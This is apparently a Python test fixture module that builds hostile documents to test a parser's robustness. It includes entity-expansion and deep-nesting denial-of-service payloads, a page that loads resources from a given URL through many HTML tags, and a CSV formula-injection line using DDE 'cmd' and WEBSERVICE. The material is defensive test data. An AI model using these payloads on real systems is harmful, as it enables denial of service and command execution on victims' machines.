"""Files of text that attack their readers: HTML, CSV, Markdown and JSON."""

from collections.abc import Callable

from tests.support.documents.hostile.packing import MIB

Maker = Callable[[str], bytes]
"""Makes a file; it gets the URL of a server that nobody may call."""


def entities() -> str:
    steps = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10))
    return f'<!DOCTYPE html [<!ENTITY a "ha">{steps}]><html><body>&k;</body></html>'


def remote(url: str) -> bytes:
    """Return a page that would load parts of each kind from elsewhere."""
    return f"""<!DOCTYPE html SYSTEM "{url}/dtd">
<html manifest="{url}/manifest"><head><base href="{url}/"><link rel=stylesheet href="{url}/css">
<link rel=preconnect href="{url}"><meta http-equiv=refresh content="0;url={url}/next">
<style>@import url("{url}/style"); body {{ background: url({url}/back) }}</style>
<script src="{url}/js"></script><script>fetch("{url}/fetch")</script></head><body>
<img src="{url}/img" srcset="{url}/2x 2x" onerror="location='{url}/error'">
<iframe src="{url}/frame" srcdoc="<img src={url}/inner>"></iframe>
<object data="{url}/object"></object><embed src="{url}/embed">
<video src="{url}/video" poster="{url}/poster"></video>
<svg><image href="{url}/svg"/><use href="{url}/use#a"/></svg><p>text</p>
<?xml-stylesheet href="{url}/xsl"?><xi:include href="{url}/include"/></body></html>""".encode()


def wide_table(rows: int) -> bytes:
    """Return a table of one long line, and many short ones."""
    head = ",".join(map(str, range(1_000_000)))
    return f"{head}\n".encode() + b"1,2\n" * rows


HTML: dict[str, Maker] = {
    "a million elements in each other": lambda url: b"<div>" * 10**6 + b"x",
    "a million links that do not end": lambda url: b"<p>x<a href=y>" * 10**6,
    "a million letters in bold in italics": lambda url: b"<b>x<i>" * 500_000 + b"</b>" * 500_000,
    "tables in tables": lambda url: b"<table><tr><td>" * 20_000 + b"x",
    "lists in lists": lambda url: b"<ul><li>x" * 50_000,
    "quotes in quotes": lambda url: b"<blockquote>x" * 50_000,
    "a cell over a thousand million columns": lambda url: (
        b"<table><tr><td colspan=1000000000 rowspan=1000000000>x</td></tr>"
        b"<tr><td>y</td></tr></table>"
    ),
    "a thousand cells over a thousand columns": lambda url: (
        b"<table>" + (b"<tr>" + b"<td colspan=1000 rowspan=1000>x</td>" * 100 + b"</tr>") * 100
    ),
    "references to halves of characters": lambda url: (
        b"<p>&#xD800;&#xDFFF;&#0;&#x110000;&#99999999999999;</p>" * 1_000
    ),
    "entities of entities": lambda url: entities().encode(),
    "an attribute of fifty megabytes": lambda url: (
        b'<p title="' + b"x" * (50 * MIB) + b'">text</p>'
    ),
    "half a million attributes": lambda url: (
        b"<p " + b" ".join(b"a%d=1" % n for n in range(500_000)) + b">text</p>"
    ),
    "a comment that does not end": lambda url: b"<p>x</p><!--" + b"-" * (10 * MIB),
    "brackets": lambda url: b"<" * (10 * MIB),
    "closed elements that never began": lambda url: b"</p></div></table>" * 500_000,
    "parts elsewhere": remote,
}

CSV: dict[str, Maker] = {
    "one line of ninety megabytes": lambda url: b"x" * (90 * MIB),
    "one line of a million columns": lambda url: b",".join([b"x"] * 10**6),
    "one long line and many short ones": lambda url: wide_table(100_000),
    "a quote that does not end": lambda url: b'a,b\n"' + b"x,\n" * (10 * MIB),
    "fifty megabytes of quotes": lambda url: b'"' * (50 * MIB),
    "ten million line ends": lambda url: b"\n" * 10**7,
    "ten million commas": lambda url: b"," * 10**7,
    "three million rows": lambda url: b"1,2\n" * 3_000_000,
    "formulas": lambda url: f'=cmd|"/c calc"!A0,"=WEBSERVICE(""{url}"")",@SUM(1),+1,-1\n'.encode(),
}

MARKDOWN: dict[str, Maker] = {
    "brackets": lambda url: b"[" * 10**6,
    "quotes in quotes": lambda url: b"> " * 10**6 + b"x",
    "stars": lambda url: b"*a **a " * 10**6,
}

JSON: dict[str, Maker] = {
    "ten million lists in each other": lambda url: b"[" * 10**7,
    "a number of a megabyte": lambda url: b"9" * MIB,
}
